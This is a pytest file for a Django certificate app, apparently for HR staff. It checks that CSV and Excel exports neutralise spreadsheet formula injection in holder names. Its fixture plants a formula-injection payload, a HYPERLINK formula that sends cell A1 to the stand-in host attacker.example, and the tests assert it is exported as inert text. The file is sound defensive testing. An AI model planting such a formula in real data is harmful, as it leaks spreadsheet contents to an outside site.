"""A holder's name that looks like a spreadsheet formula reaches the HR officer's CSV and Excel file as plain text."""
import csv
import io

import pytest
from django.urls import reverse

from certificates.models import Certificate

pytestmark = pytest.mark.django_db

# What the probe planted: opened in a spreadsheet, it would send the sheet's first cell to another site.
FORMULA_NAME = '=HYPERLINK("http://attacker.example/?leak="&A1,"ดูรายละเอียด")'


@pytest.fixture
def formula_certificate(issue, agency_hr):
    certificate = issue(department=agency_hr.department, first_name_th="มานี")
    Certificate.objects.filter(pk=certificate.pk).update(holder_name_th=FORMULA_NAME, holder_name_en="+1-1@SUM(A1)")
    return certificate


def test_a_formula_name_arrives_in_the_csv_as_text(client, agency_hr, formula_certificate):
    client.force_login(agency_hr)
    response = client.get(reverse("certificates:desk_export", args=["csv"]))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    row = next(row for row in rows[1:] if row[0] == formula_certificate.number)
    # OWASP: a leading apostrophe makes the spreadsheet show the cell as text instead of running it.
    assert row[1] == "'" + FORMULA_NAME
    assert row[2] == "'+1-1@SUM(A1)"


def test_a_formula_name_arrives_in_the_workbook_as_text(client, agency_hr, formula_certificate):
    from openpyxl import load_workbook

    client.force_login(agency_hr)
    response = client.get(reverse("certificates:desk_export", args=["xlsx"]))
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    row = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == formula_certificate.number)
    assert row[1].value == FORMULA_NAME and row[1].data_type == "s" and row[1].quotePrefix
    assert row[2].value == "+1-1@SUM(A1)" and row[2].data_type == "s"
    assert not [cell.coordinate for line in sheet.iter_rows() for cell in line if cell.data_type == "f"]
